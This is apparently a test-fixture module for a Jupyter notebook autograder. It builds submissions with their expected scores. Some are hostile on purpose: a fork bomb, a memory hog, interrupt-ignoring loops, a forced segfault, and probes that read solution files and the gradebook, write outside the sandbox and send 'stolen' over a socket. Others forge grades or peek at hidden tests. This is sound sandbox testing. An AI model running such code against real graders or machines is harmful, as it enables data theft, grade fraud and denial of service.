"""Submissions of exercise 1 as students really hand them in, good and bad,
each with the score, status and reason the grader must give it. Scores are
computed from the exercise's own points (submissions.points), never restated.
"""

from __future__ import annotations

import atexit
import json
import os
import shutil
import subprocess
import sys
import tempfile
from dataclasses import dataclass
from pathlib import Path

import cheats
import nbformat
import submissions

A = "01_blocks"
POINTS = submissions.points(A)  # graded test cell -> points, in notebook order
FULL = sum(POINTS.values())
# The first wrong-answer fixture (a MySequential mistake) and the points of every clause cell it fails.
WRONG_LOSES = sum(POINTS[t] for t in submissions.first_wrong(A).fails)
# What each kind of case exercises; every path that grades is checked on every kind.
KINDS = {
    "scoring": "right, blank and partly wrong answers",
    "time_limit": "loops stopped at a cell's time limit",
    "ignored_interrupt": "a loop that ignores the interrupt, so its kernel is killed",
    "resource_limit": "memory, process and output limits",
    "kernel_death": "kernels that exit or crash mid-notebook",
    "repair": "test cells and metadata put back as released",
    "unreadable": "files that are not a readable notebook",
    "collection": "old formats, odd names and folders of files",
    "environment": "the instructor's environment variables stay out",
    "isolation": "files, network and processes outside the sandbox",
    "integrity": "notebooks that try to forge a grade or read the hidden tests (tests/cheats.py has them all)",
}
# Kinds whose cases spend deliberate waits (a time limit running out): a second
# path may grade one case of these per run (sample()).
COSTLY = {"time_limit"}
# A message of one of the exercise's hidden tests: feedback must never show it.
HIDDEN_MESSAGE = "A single module passed positionally should be the only child."
# What the warns case's make_stack warns: the visible part of its test shows it in the feedback.
WARNING = "make_stack warns here, and still works"
# Variables planted in the grader's environment; student code must never see them.
PLANTED = {"GRADER_TEST_TOKEN": "planted-token-6f1d", "PGPASSWORD": "planted-password-93ab"}


BIN = Path(sys.executable).parent


def cli_env(**extra) -> dict:
    """The environment for nbgrader's CLI: this venv's tools on PATH (nbgrader runs alembic)."""
    return dict(os.environ, PATH=f"{BIN}{os.pathsep}{os.environ['PATH']}", **extra)


def make_command(target: str, *variables: str) -> str:
    """The command `make TARGET VARIABLES` runs for the target itself (its last recipe line, as
    `make -n` prints it), with this interpreter's environment as make's VENV: a test runs it where
    it likes without make's setup step."""
    done = subprocess.run(
        ["make", "-n", "--no-print-directory", target, f"VENV={BIN.parent}", *variables],
        cwd=Path(__file__).resolve().parent.parent,
        capture_output=True,
        text=True,
        check=True,
    )
    return done.stdout.strip().splitlines()[-1]


def ipc_kernels() -> list[str]:
    """Options that put plain nbgrader's kernels on ipc sockets, in a short-named folder of their
    own (a socket's path must stay under 108 bytes), removed when the test process ends. On TCP,
    jupyter_client picks free ports, closes them and hands them to the kernel, which binds them
    later; with the suite's other kernels starting meanwhile, one can take a port in between and
    the kernel dies before replying to kernel_info (jupyter_client issue 154; it happened once in
    five whole runs). A grade is the same on either transport; the grader's own kernels use ipc."""
    folder = tempfile.mkdtemp(prefix="ipc-")
    atexit.register(shutil.rmtree, folder, ignore_errors=True)
    return ["--KernelManager.transport=ipc", f"--KernelManager.ip={folder}/kernel"]


def nbgrader(cwd, *args, env=None, check=True) -> subprocess.CompletedProcess:
    """Run `nbgrader ARGS` in `cwd` as an instructor or student would; `check`: it must succeed."""
    done = subprocess.run([str(BIN / "nbgrader"), *args], cwd=cwd, env=env or cli_env(), capture_output=True, text=True)
    if check:
        assert done.returncode == 0, f"nbgrader {' '.join(args)} failed:\n{done.stdout[-2000:]}{done.stderr[-3000:]}"
    return done


@dataclass
class Case:
    name: str  # the entry in the submissions folder
    student: str  # the student id expected in the CSV
    kind: str  # what it exercises (a key of KINDS)
    score: float
    status: str
    detail: str  # a part of the detail column ("" means the detail must be empty)
    write: object  # function(folder) that creates the entry


def _grade_id(cell):
    return cell.metadata.get("nbgrader", {}).get("grade_id")


def _index(nb, grade_id):
    return next(i for i, c in enumerate(nb.cells) if _grade_id(c) == grade_id)


# Prints every variable the kernel sees, and whether a planted one is among them.
ENVIRONMENT_PROBE = f"""import os
print("ENVIRONMENT", sorted(os.environ))
print("PLANTED SEEN" if any(v in os.environ.values() for v in {sorted(PLANTED.values())!r}) else "PLANTED NOT SEEN")
"""


def _answer_prefix(code):
    """A correct submission whose make_stack answer starts with `code`."""
    nb = submissions.answered(A)
    cell = nb.cells[_index(nb, "make_stack")]
    cell.source = cell.source.replace("def make_stack(factory, n):\n", "def make_stack(factory, n):\n" + code, 1)
    return nb


def _extra_cell_first(code):
    """A correct submission with one extra cell of the student's right after the imports."""
    nb = submissions.answered(A)
    nb.cells.insert(3, nbformat.v4.new_code_cell(code))
    return nb


def _forward_exits():
    """A correct submission whose ParallelBlock.forward ends its kernel: no later item calls it."""
    nb = submissions.answered(A)
    cell = nb.cells[_index(nb, "ParallelBlock")]
    exits = "    def forward(self, X):\n        import os\n\n        os._exit(1)\n"
    cell.source = cell.source.replace("    def forward(self, X):\n", exits, 1)
    return nb


def _visible_error():
    """A ParallelBlock that always joins on dim 0: its visible test's first call raises torch's own
    RuntimeError (mismatched widths), before any hidden test runs."""
    source = submissions.answer_source(A, "ParallelBlock")
    assert "dim=self.dim" in source, "the model ParallelBlock no longer passes dim=self.dim"
    return submissions.answered(A, {"ParallelBlock": source.replace("dim=self.dim", "dim=0")})


def _exits_after_each_item():
    """A correct submission with a cell ending its kernel after each answer: one death more
    than the grader restarts a kernel for, so the last item's tests are not run."""
    nb = submissions.answered(A)
    for answer in ("MySequential", "ParallelBlock", "make_stack", "FixedHiddenMLP"):
        nb.cells.insert(_index(nb, answer) + 1, nbformat.v4.new_code_cell("import os\nos._exit(1)"))
    return nb


def _notebook(name, build):
    def write(folder: Path):
        nbformat.write(build(), folder / name)

    return write


def _raw(name, data: bytes):
    def write(folder: Path):
        (folder / name).write_bytes(data)

    return write


def _edited_tests():
    wrong = submissions.first_wrong(A)
    nb = submissions.answered(A, {wrong.answer_id: wrong.code})
    nb.cells[_index(nb, "test_MySequential")].source = "pass  # my tests pass now"
    return nb


def _deleted_tests():
    nb = submissions.answered(A)
    del nb.cells[_index(nb, "test_ParallelBlock")]
    return nb


def _reordered():
    nb = submissions.answered(A)
    test = nb.cells.pop(_index(nb, "test_make_stack"))
    nb.cells.insert(_index(nb, "make_stack"), test)
    return nb


def _retyped():
    nb = submissions.answered(A)
    i = _index(nb, "test_ParallelBlock")
    old = nb.cells[i]
    nb.cells[i] = nbformat.v4.new_markdown_cell(old.source, metadata=old.metadata)
    return nb


def _points():
    wrong = submissions.first_wrong(A)
    nb = submissions.answered(A, {wrong.answer_id: wrong.code})
    nb.cells[_index(nb, "test_MySequential")].metadata["nbgrader"]["points"] = 100
    return nb


def _kernelspec():
    nb = submissions.answered(A)
    nb.metadata["kernelspec"] = {"name": "ir", "display_name": "R", "language": "R"}
    return nb


def _stripped():
    nb = submissions.answered(A)
    for cell in nb.cells:
        cell.metadata.pop("nbgrader", None)
        cell.metadata.pop("deletable", None)
        cell.metadata.pop("editable", None)
    return nb


def _nbformat3(folder: Path):
    nb = nbformat.convert(submissions.answered(A), 3)
    (folder / "old_format.ipynb").write_text(nbformat.writes(nb, version=3), encoding="utf-8")


def _two_files(folder: Path):
    student = folder / "twice"
    student.mkdir()
    nbformat.write(submissions.exercise(A), student / "untitled.ipynb")
    nbformat.write(submissions.answered(A), student / f"{A}.ipynb")


def _nbgrader_layout(folder: Path):
    target = folder / "nested" / A
    target.mkdir(parents=True)
    nbformat.write(submissions.answered(A), target / f"{A}.ipynb")


def cases(listener_port: int, course_root: Path, submissions_dir: Path) -> list[Case]:
    """Every case; the isolation ones aim at this machine's real paths and a live listener."""
    wrong = submissions.first_wrong(A)
    solution_file = Path(submissions.ROOT) / "solutions" / A / f"{A}.ipynb"
    probes = {
        "reads_solutions": f"""
for path in [{str(solution_file)!r}, {str(course_root / "solutions" / A / (A + ".ipynb"))!r},
             {str(course_root / "gradebook.db")!r}, {str(submissions_dir / "correct.ipynb")!r}]:
    try:
        open(path).read(10)
        print("LEAKED", path)
    except OSError as exc:
        print("BLOCKED", type(exc).__name__)
""",
        "writes_outside": f"""
for path in [{str(course_root / "pwned.txt")!r}, {str(submissions_dir / "pwned.txt")!r},
             {str(Path(submissions.ROOT) / "pwned.txt")!r}]:
    try:
        open(path, "w").write("x")
        print("WROTE", path)
    except OSError as exc:
        print("BLOCKED", type(exc).__name__)
""",
        "opens_socket": f"""
import socket
try:
    socket.create_connection(("127.0.0.1", {listener_port}), timeout=2).sendall(b"stolen")
    print("CONNECTED")
except OSError as exc:
    print("BLOCKED", type(exc).__name__)
""",
        "leaves_process": """
import subprocess
subprocess.Popen(["sleep", "4242"], start_new_session=True)
print("SPAWNED")
""",
    }
    found = [
        Case(
            "correct.ipynb",
            "correct",
            "scoring",
            FULL,
            "graded",
            "",
            _notebook("correct.ipynb", lambda: submissions.answered(A)),
        ),
        Case(
            "blank.ipynb",
            "blank",
            "scoring",
            0,
            "graded",
            "failed: test_MySequential",
            _notebook("blank.ipynb", lambda: submissions.exercise(A)),
        ),
        Case(
            "one_wrong.ipynb",
            "one_wrong",
            "scoring",
            FULL - WRONG_LOSES,
            "graded",
            "failed: test_MySequential",
            _notebook("one_wrong.ipynb", lambda: submissions.answered(A, {wrong.answer_id: wrong.code})),
        ),
        Case(
            "loop_top.ipynb",
            "loop_top",
            "time_limit",
            FULL,
            "graded",
            "cell 4: timed out",
            # The one busy loop of the suite: a loop that never lets go of the CPU is stopped too.
            _notebook("loop_top.ipynb", lambda: _extra_cell_first("while True:\n    pass")),
        ),
        Case(
            "loop_in_item.ipynb",
            "loop_in_item",
            "time_limit",
            FULL - POINTS["test_make_stack"],
            "graded",
            "test_make_stack: timed out",
            _notebook(
                "loop_in_item.ipynb",
                # Waits rather than spins: the grader stops both alike (an interrupt ends a
                # sleep as it ends a bytecode loop), and a spinning loop costs the suite's two
                # cores its whole time limit; loop_top is the busy one.
                lambda: _answer_prefix("    import time\n    while True:\n        time.sleep(0.5)\n"),
            ),
        ),
        Case(
            "ignores_sigint.ipynb",
            "ignores_sigint",
            "ignored_interrupt",
            # The kernel is killed; a fresh one grades the items after it.
            FULL - POINTS["test_make_stack"],
            "graded",
            "test_make_stack: a cell ran past",
            _notebook(
                "ignores_sigint.ipynb",
                lambda: _answer_prefix(
                    # Catches every interrupt (SIGINT, or the runner's stop of a test) and goes on.
                    # It waits rather than spins, as loop_in_item does.
                    "    import time\n    while True:\n        try:\n            while True:\n"
                    "                time.sleep(0.5)\n        except BaseException:\n            pass\n"
                ),
            ),
        ),
        Case(
            "memory_hog.ipynb",
            "memory_hog",
            "resource_limit",
            FULL - POINTS["test_make_stack"],
            "graded",
            "failed: test_make_stack",
            _notebook(
                "memory_hog.ipynb",
                # bytes() are allocated, never written (not_graded_cases.CRASHES says why).
                lambda: _answer_prefix("    hog = []\n    while True:\n        hog.append(bytes(50_000_000))\n"),
            ),
        ),
        Case(
            "reserves_address_space.ipynb",
            "reserves_address_space",
            "resource_limit",
            FULL,
            "graded",
            "",
            _notebook(
                "reserves_address_space.ipynb",
                # 8 GiB of address space mapped read-only, as CUDA's reservations and the CUDA build
                # of torch's libraries are: outside the memory limit, which counts private writable
                # memory (a writable map counts when made, written or not).
                lambda: _answer_prefix(
                    "    import mmap\n    mmap.mmap(-1, 8 << 30, flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ).close()\n"
                ),
            ),
        ),
        Case(
            "asks_its_user_name.ipynb",
            "asks_its_user_name",
            "environment",
            FULL,
            "graded",
            "",
            _notebook(
                "asks_its_user_name.ipynb",
                # As torch 2.11's optimizers do (for their compile cache). Graded as root, the sandbox's
                # uid has no entry in the password file, so the name comes from the environment (as
                # another user the case passes either way: its own uid has an entry).
                lambda: _answer_prefix("    import getpass\n    assert getpass.getuser()\n"),
            ),
        ),
        Case(
            "fork_bomb.ipynb",
            "fork_bomb",
            "resource_limit",
            FULL - POINTS["test_make_stack"],
            "graded",
            "failed: test_make_stack",
            _notebook("fork_bomb.ipynb", lambda: _answer_prefix("    import os\n    while True:\n        os.fork()\n")),
        ),
        Case(
            "os_exit.ipynb",
            "os_exit",
            "kernel_death",
            # A crash costs what it breaks: a fresh kernel grades the items after it.
            FULL - POINTS["test_make_stack"],
            "graded",
            "test_make_stack: the kernel exited with status 3",
            _notebook("os_exit.ipynb", lambda: _answer_prefix("    import os\n    os._exit(3)\n")),
        ),
        Case(
            "visible_error.ipynb",
            "visible_error",
            "scoring",
            FULL - POINTS["test_ParallelBlock"],
            "graded",
            "failed: test_ParallelBlock (RuntimeError: ",  # the CSV names the error
            _notebook("visible_error.ipynb", _visible_error),
        ),
        Case(
            "warns.ipynb",
            "warns",
            "scoring",
            FULL,  # a warning is not a failure
            "graded",
            "",
            _notebook(
                "warns.ipynb", lambda: _answer_prefix(f"    import warnings\n\n    warnings.warn({WARNING!r})\n")
            ),
        ),
        Case(
            "raises_after_def.ipynb",
            "raises_after_def",
            "scoring",
            FULL,  # the function was defined before the error: its tests pass
            "graded",
            "make_stack: raised ValueError: a stray line",  # but the error is named
            _notebook(
                "raises_after_def.ipynb",
                lambda: submissions.answered(
                    A,
                    {"make_stack": submissions.answer_source(A, "make_stack") + "\nraise ValueError('a stray line')\n"},
                ),
            ),
        ),
        Case(
            "calls_exit.ipynb",
            "calls_exit",
            "kernel_death",
            # exit() ends the kernel while the test that called it runs, never a later cell, never a flag.
            FULL - POINTS["test_make_stack"],
            "graded",
            "test_make_stack: the notebook called exit()",
            _notebook("calls_exit.ipynb", lambda: _answer_prefix("    exit()\n")),
        ),
        Case(
            "forward_exits.ipynb",
            "forward_exits",
            "kernel_death",
            FULL - POINTS["test_ParallelBlock"],
            "graded",
            "test_ParallelBlock: the kernel exited with status 1",
            _notebook("forward_exits.ipynb", _forward_exits),
        ),
        Case(
            "exits_every_kernel.ipynb",
            "exits_every_kernel",
            "kernel_death",
            FULL - POINTS["test_FixedHiddenMLP"] - POINTS["test_FixedHiddenMLP_buffer"],
            "graded",
            "fresh ones at most",
            _notebook("exits_every_kernel.ipynb", _exits_after_each_item),
        ),
        Case(
            "sys_exit.ipynb",
            "sys_exit",
            "kernel_death",
            FULL - POINTS["test_make_stack"],
            "graded",
            "failed: test_make_stack",
            _notebook("sys_exit.ipynb", lambda: _answer_prefix("    import sys\n    sys.exit(1)\n")),
        ),
        Case(
            "segfault.ipynb",
            "segfault",
            "kernel_death",
            FULL,
            "graded",
            "cell 4: the kernel was killed by signal 11",
            _notebook("segfault.ipynb", lambda: _extra_cell_first("import faulthandler\nfaulthandler._sigsegv()")),
        ),
        Case(
            "huge_output.ipynb",
            "huge_output",
            "resource_limit",
            FULL,
            "graded",
            "test_make_stack: output truncated",
            _notebook("huge_output.ipynb", lambda: _answer_prefix("    print('x' * 5_000_000)\n")),
        ),
        Case(
            "edited_tests.ipynb",
            "edited_tests",
            "repair",
            FULL - WRONG_LOSES,
            "graded",
            "test_MySequential: read-only cell was edited",
            _notebook("edited_tests.ipynb", _edited_tests),
        ),
        Case(
            "deleted_tests.ipynb",
            "deleted_tests",
            "repair",
            FULL,
            "graded",
            "test_ParallelBlock: deleted",
            _notebook("deleted_tests.ipynb", _deleted_tests),
        ),
        Case(
            "reordered.ipynb",
            "reordered",
            "repair",
            FULL,
            "graded",
            "out of the released order",
            _notebook("reordered.ipynb", _reordered),
        ),
        Case(
            "retyped.ipynb",
            "retyped",
            "repair",
            FULL,
            "graded",
            "test_ParallelBlock: cell type changed",
            _notebook("retyped.ipynb", _retyped),
        ),
        Case(
            "changed_points.ipynb",
            "changed_points",
            "repair",
            FULL - WRONG_LOSES,
            "graded",
            "points changed to 100",
            _notebook("changed_points.ipynb", _points),
        ),
        Case(
            "kernelspec.ipynb",
            "kernelspec",
            "repair",
            FULL,
            "graded",
            "kernel changed to 'ir'",
            _notebook("kernelspec.ipynb", _kernelspec),
        ),
        Case(
            "stripped.ipynb",
            "stripped",
            "repair",
            FULL,
            "graded",
            "matched to the released cells by content",
            _notebook("stripped.ipynb", _stripped),
        ),
        Case("empty.ipynb", "empty", "unreadable", 0, "invalid", "empty file", _raw("empty.ipynb", b"")),
        Case(
            "truncated.ipynb",
            "truncated",
            "unreadable",
            0,
            "invalid",
            "not valid JSON",
            _raw("truncated.ipynb", nbformat.writes(submissions.answered(A)).encode()[:5000]),
        ),
        Case(
            "essay.docx", "essay", "unreadable", 0, "invalid", "binary file", _raw("essay.docx", bytes(range(256)) * 4)
        ),
        Case(
            "notes.ipynb",
            "notes",
            "unreadable",
            0,
            "invalid",
            "JSON but not a Jupyter notebook",
            _raw("notes.ipynb", json.dumps({"title": "my notes"}).encode()),
        ),
        Case("old_format.ipynb", "old_format", "collection", FULL, "graded", "converted from nbformat 3", _nbformat3),
        Case(
            "José María Ñúñez.ipynb",
            "José María Ñúñez",
            "collection",
            FULL,
            "graded",
            "",
            _notebook("José María Ñúñez.ipynb", lambda: submissions.answered(A)),
        ),
        Case("twice", "twice", "collection", FULL, "graded", "2 files; graded twice/01_blocks.ipynb", _two_files),
        Case("nested", "nested", "collection", FULL, "graded", "", _nbgrader_layout),
        Case(
            "environment.ipynb",
            "environment",
            "environment",
            FULL,
            "graded",
            "",
            _notebook("environment.ipynb", lambda: _extra_cell_first(ENVIRONMENT_PROBE)),
        ),
    ]

    def attacker():
        # One submission makes every attempt, each in a cell of its own.
        nb = submissions.answered(A)
        for code in reversed(list(probes.values())):
            nb.cells.insert(3, nbformat.v4.new_code_cell(code))
        return nb

    found.append(
        Case("attacker.ipynb", "attacker", "isolation", FULL, "graded", "", _notebook("attacker.ipynb", attacker))
    )
    # One forger, one peeker and one liar from the cheat corpus, so that every path grades them.
    liar = next(c for c in cheats.LIARS if c.assignment == A)
    forger, peeker = (
        next(c for c in cheats.CHEATS if c.name == name) for name in ("input_transformers_cleanup", "leak_pre_run_cell")
    )
    found += [
        Case(
            "forger.ipynb",
            "forger",
            "integrity",
            0,
            "flagged",
            "failed: test_MySequential",
            _notebook("forger.ipynb", lambda: cheats.notebook(forger)),
        ),
        Case(
            "peeker.ipynb",
            "peeker",
            "integrity",
            FULL,
            "flagged",
            "",
            _notebook("peeker.ipynb", lambda: cheats.notebook(peeker)),
        ),
        # Passes ParallelBlock's test in the kernel; the judge outside the kernel stops it (a
        # failed cell, not a flag: a judge's rejection is no evidence of tampering).
        Case(
            "liar.ipynb",
            "liar",
            "integrity",
            0,
            "graded",
            "test_ParallelBlock",
            _notebook("liar.ipynb", lambda: cheats.liar_notebook(liar)),
        ),
    ]
    return found


def sample(all_cases: list[Case], rng) -> list[Case]:
    """Every case, except that only one case (chosen by `rng`) of each costly kind is kept."""
    chosen = {kind: rng.choice([c for c in all_cases if c.kind == kind]) for kind in COSTLY}
    return [c for c in all_cases if c.kind not in COSTLY or c is chosen[c.kind]]
